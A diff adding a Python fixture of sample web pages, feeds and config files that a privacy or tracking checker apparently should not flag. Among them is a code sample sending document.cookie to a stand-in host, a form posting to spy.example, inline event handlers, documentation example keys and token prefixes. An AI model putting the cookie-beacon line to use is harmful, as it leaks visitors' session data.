@@ -1,0 +1,137 @@
+"""Pages and files about tracking, and such as good sites have: family → name → page or files in which nothing is wrong."""
+
+import gzip
+
+HEAD = '<!doctype html><meta charset="utf-8"><meta name="referrer" content="no-referrer"><title>A</title>'
+
+LOADS = {
+    "a loader that no script runs": '<img src="a.png" data-src="https://spy.example/x" data-srcset="https://spy.example/x 2x" alt="">',
+    "an address kept as data": '<a href="/" data-href="https://spy.example/">A</a>',
+    "a profile of old": '<html><head profile="https://gmpg.org/xfn/11"></head>',
+    "a formula's link": '<math href="https://a.example/"><mi>x</mi></math>',
+    "a formula's meaning": '<math><semantics><mi>x</mi><annotation encoding="application/x-tex">\\url{https://a.example/x.png}</annotation></semantics></math>',
+    "an animated colour": '<svg><rect><animate attributeName="fill" values="red;rgb(0,0,255);url(#g)" dur="1s"/></rect></svg>',
+    "a chart": '<svg viewBox="0 0 100 50" role="img"><title>Requests</title><g><rect x="0" y="0" width="9" height="40"/><text x="1" y="48">google-analytics.com</text></g><defs><clipPath id="c"><rect/></clipPath></defs><g clip-path="url(#c)"><path d="M0 0L9 9"/></g></svg>',
+    "a local font": "<style>@font-face { font-family: a; src: local('Iowan Old Style') }</style>",
+    "a namespace by string": "<style>@namespace 'http://www.w3.org/1999/xhtml';</style>",
+    "an address in a content string": "<style>a::after { content: 'https://spy.example/x' }</style>",
+    "an address in a selector": "<style>a[href^='https://spy.example/'] { color: red }</style>",
+    "an address in a comment of style": "<style>a { color: red }</style>",
+    "a fragment in style": "<style>a { filter: url(#f); clip-path: url('#c') }</style>",
+    "an own picture in style": "<style>a { background: image-set('a.avif' 1x, url(\"a.png\") 2x) }</style>",
+    "a picture of data": '<img alt="" src="data:image/png;base64,iVBORw0KGgo=">',
+    "a link of a film": '<a href="https://media.example/film.mp4">The film</a>',
+    "own sound and film": '<video src="a.mp4" poster="a.jpg" controls><track src="a.vtt" srclang="en"></video><audio src="a.opus" controls></audio>',
+    "the source of a quotation": '<q cite="https://a.example/">A</q> <ins cite="https://b.example/">B</ins>',
+    "a map": '<img usemap="#m" src="a.png" alt=""><map name="m"><area href="https://a.example/" shape="default" alt="A"></map>',
+    "a page in other languages": '<link rel="alternate" hreflang="nb" href="https://a.example/nb/"><link rel="canonical" href="https://a.example/">',
+    "a previous page": '<link rel="prev" href="1.html">',
+    "a refresh told": "<p><code>&lt;meta http-equiv=refresh content='0; url=https://spy.example/'></code> leads on.</p>",
+    "prefetching told": "<p><code>&lt;link rel=dns-prefetch href=//spy.example></code></p>",
+    "a name that is looked up by nobody": '<meta http-equiv="x-dns-prefetch-control" content="off">',
+    "a doctype of old": {"a.html": '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd"><meta name="referrer" content="no-referrer"><p>A</p>'},
+    "a drawing with a doctype of old": {"a.svg": '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd"><svg xmlns="http://www.w3.org/2000/svg"/>'},
+    "headers of a careful site": {"_headers": '/*\n  Referrer-Policy: no-referrer\n  X-Content-Type-Options: nosniff\n  Permissions-Policy: geolocation=()\n  Link: </a.css>; rel="canonical"\n'},
+    "redirects of its own": {"_redirects": "/old /new 301\n/feed /feed.xml 200\n"},
+    "rewriting of its own": {".htaccess": "RewriteEngine on\nRewriteCond %{REQUEST_FILENAME} !-f\nRewriteRule ^(.*)$ /index.html [L]\nErrorDocument 404 /404.html\n"},
+    "a manifest": {"m.webmanifest": '{"name": "A", "start_url": "/", "icons": [{"src": "a.png", "sizes": "1x1"}]}'},
+    "an outline of feeds": {"o.opml": "<opml version='2.0'><body><outline text='A' xmlUrl='https://a.example/feed.xml' htmlUrl='https://a.example/'/></body></opml>"},
+    "a search description of its own": {"s.xml": '<OpenSearchDescription xmlns="http://a9.com/-/spec/opensearch/1.1/"><ShortName>A</ShortName><Url type="text/html" template="https://site.invalid/?q={searchTerms}"/></OpenSearchDescription>'},
+    "a table of hosts": "<table><tr><th>Host<th>Who<tr><td>connect.facebook.net<td>Facebook<tr><td>https://www.clarity.ms/tag/1<td>Microsoft</table>",
+    "a tutorial with curl": "<pre>$ curl -sI https://www.google-analytics.com/collect?v=1 | grep -i set-cookie\nset-cookie: id=1\n$ wget http://127.0.0.1:8000/</pre>",
+    "a list of filters": "<pre>||doubleclick.net^$third-party\n@@||a.example/ads.js$script</pre>",
+    "a regular expression": r"<code>^https?://(?:www\.)?(?:google|facebook)\.com/(?:url|l\.php)\?[^&amp;]*$</code>",
+    "an entry's text about markup": {"f.xml": "<feed xmlns='http://www.w3.org/2005/Atom'><entry><title>The &lt;img src='//spy.example/x'> element</title><summary>It loads &lt;img src='//spy.example/x'></summary></entry></feed>"},
+}  # fmt: skip
+
+RUNS = {
+    "a program in text": {"a.txt": "<!doctype html><script>x()</script>\n"},
+    "a program in a sample": "<pre><code class=language-js>&lt;script>navigator.sendBeacon('https://spy.example/', document.cookie)&lt;/script></code></pre>",
+    "a program in an attribute": '<p title="javascript: how it works">A</p>',
+    "a heading about javascript": '<h2 id="javascript">JavaScript: a short history</h2><a href="#javascript">There</a>',
+    "linked data": '<script type="application/ld+json">{"@context": "https://schema.org", "@type": "BlogPosting", "headline": "On <b>"}</script>',
+    "a scheme in prose": "<p>vbscript: and data:text/html,&lt;script> are addresses too.</p>",
+    "a tutorial on handlers": '<p>Write <kbd>onclick</kbd>, <kbd>onerror="x()"</kbd> or <kbd>&lt;svg onload></kbd>.</p>',
+    "an address with a colon": '<a href="https://a.example/javascript:x">A</a>',
+    "a feed's style": {"f.xml": "<?xml-stylesheet type='text/css' href='a.css'?><rss version='2.0'><channel><title>A</title></channel></rss>", "a.css": "title { display: block }"},
+    "a data picture": '<img alt="" src="data:image/svg+xml,%3Csvg xmlns=%22http://www.w3.org/2000/svg%22/%3E">',
+    "an element about scripts": "<section id=onload><p>A</p></section>",
+    "a colour called expression": "<style>a { --expression: red }</style>",
+}  # fmt: skip
+
+FOLLOWS = {
+    "a parameter of its own": '<a href="https://a.example/?page=2&amp;lang=nb">A</a>',
+    "a table of parameters": "<table><tr><td>gclid<td>Google<tr><td>fbclid<td>Facebook<tr><td><code>?mc_eid=1a2b</code><td>Mailchimp</table>",
+    "a search": '<a href="https://duckduckgo.com/?q=utm_source">Search</a>',
+    "a link to a firm": '<a href="https://www.facebook.com/">Facebook</a> <a href="https://bitly.com/">Bitly</a> <a href="https://www.google.no/">Google</a>',
+    "a link to documentation": '<a href="https://support.google.com/google-ads/answer/9744275">What gclid is</a> <a href="https://feedburner.google.com/">FeedBurner</a>',
+    "a feature of another site": '<a href="https://a.example/?feature=1&amp;si=2">A</a>',
+    "a film at its place": '<a href="https://www.youtube.com/watch?v=dQw4w9WgXcQ">A film</a>',
+    "a mail with a subject": '<a href="mailto:letters@example.org?subject=A%20letter">Write</a>',
+    "own pictures for networks": '<meta property="og:image" content="a.png"><meta name="twitter:card" content="summary"><meta name="twitter:site" content="@a">',
+    "a podcast of its own": {"f.xml": "<rss version='2.0' xmlns:podcast='https://podcastindex.org/namespace/1.0'><channel><podcast:funding url='https://pay.example/'>Give</podcast:funding><item><enclosure url='1.mp3'/><podcast:transcript url='1.vtt'/><source url='https://b.example/feed'>B</source></item></channel></rss>"},
+    "linked data of its own": '<script type="application/ld+json">{"@context": "https://schema.org", "image": "a.png", "author": {"url": "https://ann.example/", "sameAs": ["https://social.example/@ann"]}}</script>',
+    "hints told": "<p><code>Accept-CH: Sec-CH-UA-Model</code> asks for the model; <code>browsingtopics</code> sends interests.</p>",
+    "a chain of redirects told": "<p>https://t.co/abc leads to https://bit.ly/abc, and that to l.facebook.com/l.php?u=…</p>",
+    "a strict policy": '<meta name="referrer" content="same-origin"><a rel="noreferrer" referrerpolicy="no-referrer" href="https://a.example/">A</a>',
+    "a fragment with a text": '<a href="https://a.example/#:~:text=utm_source%3Dx">A</a>',
+}  # fmt: skip
+
+STORES = {
+    "cookies told": "<pre>Set-Cookie: id=1; Max-Age=31536000\ndocument.cookie = 'a=1'</pre>",
+    "a form told": "<p><code>&lt;form action=https://spy.example/></code></p>",
+    "a disclosure": "<details><summary>More</summary><p>Text</p></details>",
+    "a meter": "<meter value=1>1</meter><progress value=1 max=2></progress><output>3</output>",
+    "permissions told": "<p>The element <code>&lt;permission type=camera></code> and the policy <code>allow=camera</code>.</p>",
+    "headers about cookies in a comment of the server": {".htaccess": "# No cookies are set here.\nHeader unset Set-Cookie\n"},
+    "a manifest told": "<p>A cache manifest, <code>&lt;html manifest=a.appcache></code>, kept pages.</p>",
+}  # fmt: skip
+
+REMEMBERS = {
+    "a generator told": "<p>Generated by Hugo; built with Eleventy.</p>",
+    "a date of publication": '<meta property="article:published_time" content="2021-01-02T10:11:12Z"><meta name="date" content="2021-01-02"><time datetime="2021-01-02">2 January 2021</time>',
+    "an update told": "<p>Updated 2021-01-02 10:11 UTC: the number was wrong. The report was generated on 3 March 2020.</p>",
+    "a build told": "<p>The page said it was built on 2021-01-02 10:11:12, in the night.</p>",
+    "a feed as new as its newest entry": {"f.xml": "<feed xmlns='http://www.w3.org/2005/Atom'><updated>2021-01-02T00:00:00Z</updated><entry><updated>2021-01-01T00:00:00Z</updated></entry><entry><updated>2021-01-02T00:00:00Z</updated></entry></feed>"},
+    "a channel as new as its newest item": {"f.xml": "<rss version='2.0'><channel><lastBuildDate>Fri, 01 Jan 2021 00:00:00 +0000</lastBuildDate><item><pubDate>Fri, 01 Jan 2021 00:00:00 GMT</pubDate></item></channel></rss>"},
+    "a channel of which an entry was changed later": {"f.xml": "<rss version='2.0'><channel><lastBuildDate>Sat, 02 Jan 2021 10:30:00 +0000</lastBuildDate><item><pubDate>Fri, 01 Jan 2021 00:00:00 +0000</pubDate></item></channel></rss>"},
+    "a feed without entries": {"f.xml": "<feed xmlns='http://www.w3.org/2005/Atom'><updated>2021-01-02T00:00:00Z</updated></feed>"},
+    "a sitemap of days": {"sitemap.xml": "<urlset xmlns='http://www.sitemaps.org/schemas/sitemap/0.9'>" + "".join(f"<url><loc>/{n}</loc><lastmod>2021-01-02</lastmod></url>" for n in range(5)) + "</urlset>"},
+    "JSON with dates": {"a.json": '{"date_published": "2021-01-02T10:11:12Z", "build": 12, "generated": true}'},
+    "a key that documentation shows": "<pre>aws_access_key_id = AKIAIOSFODNN7EXAMPLE\naws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY</pre>",
+    "the beginning of a key": "<p>A key begins with <code>-----BEGIN RSA PRIVATE KEY-----</code> and a token with <code>ghp_</code>, <code>sk-</code> or <code>xoxb-</code>.</p>",
+    "a public key": {"a.asc": "-----BEGIN PGP PUBLIC KEY BLOCK-----\n\nmDMEYabcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ012345\n-----END PGP PUBLIC KEY BLOCK-----\n", "b.txt": "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIabcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMN letters@example.org\n"},
+    "a certificate": {"a.pem": "-----BEGIN CERTIFICATE-----\nMIIBabcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789\n-----END CERTIFICATE-----\n"},
+    "a token of the documentation": "<code>eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c</code>",
+    "digests": {"a.txt": "d41d8cd98f00b204e9800998ecf8427e  a.iso\ne3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855  b.iso\nsha256-47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU=\n"},
+    "words with a dash": "<p>sk-learn, key-value, ask-me-anything, AZIAN, a task-shaped hf_transfer, SG.x, us-us1</p>",
+    "addresses of machines in prose": "<p>192.168.0.1 and 10.0.0.1 are private; ::1 is the machine itself; http://localhost:8000/ too.</p>",
+    "a path in prose": "<p>Settings lie in <code>~/.config</code>, <code>/home/you/.mozilla</code> or <code>C:\\Users\\you</code>.</p>",
+    "a link of a folder called home": '<a href="/home/about/">Home</a> <img src="/Users/guide/a.png" alt="">',
+    "a mail address in code": "<pre>git config user.email you@example.com\nssh git@localhost</pre>",
+    "decorators and packages": "<p>@decorator, npm i @babel/core@7.1.0, vue@3, user@host, \\@, a@b</p>",
+    "a drawing with words": {"a.svg": '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><title>A</title><desc>B</desc><a xlink:href="a.html"><text>A</text></a></svg>'},
+    "a twin without a time": {"a.txt": "A\n", "a.txt.gz": gzip.compress(b"A\n", mtime=0)},
+    "own headers": {"_headers": "/*\n  Content-Security-Policy: default-src 'none'\n  Cache-Control: no-cache\n"},
+    "a version in prose": "<p>X-Powered-By: PHP/8.1 says too much.</p>",
+}  # fmt: skip
+
+DECEIVES = {
+    "a host in its own words": '<a href="https://www.bank.example/login">bank.example</a>',
+    "a host of another country": '<a href="https://www.økonomi.example/">økonomi.example</a> <a href="https://пример.рф/">пример.рф</a> <a href="https://例え.jp/">例え.jp</a>',
+    "words with a dot": '<a href="https://a.example/">Node.js, e.g. index.html, v1.2</a>',
+    "a joined family": "<p>👨\u200d👩\u200d👧</p>",
+    "Persian": "<p lang=fa>\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645</p>",
+    "a soft hyphen": "<p>Donau\u00addampf\u00adschiff</p>",
+    "one id each": '<p id="a"><p id="b"><a href="#a">A</a>',
+    "a picture that is one": {"a.gif": b"GIF89a\1\0\1\0\0\0\0;"},
+}  # fmt: skip
+
+FAMILIES = {
+    "loads": LOADS,
+    "runs": RUNS,
+    "follows": FOLLOWS,
+    "stores": STORES,
+    "remembers": REMEMBERS,
+    "deceives": DECEIVES,
+}
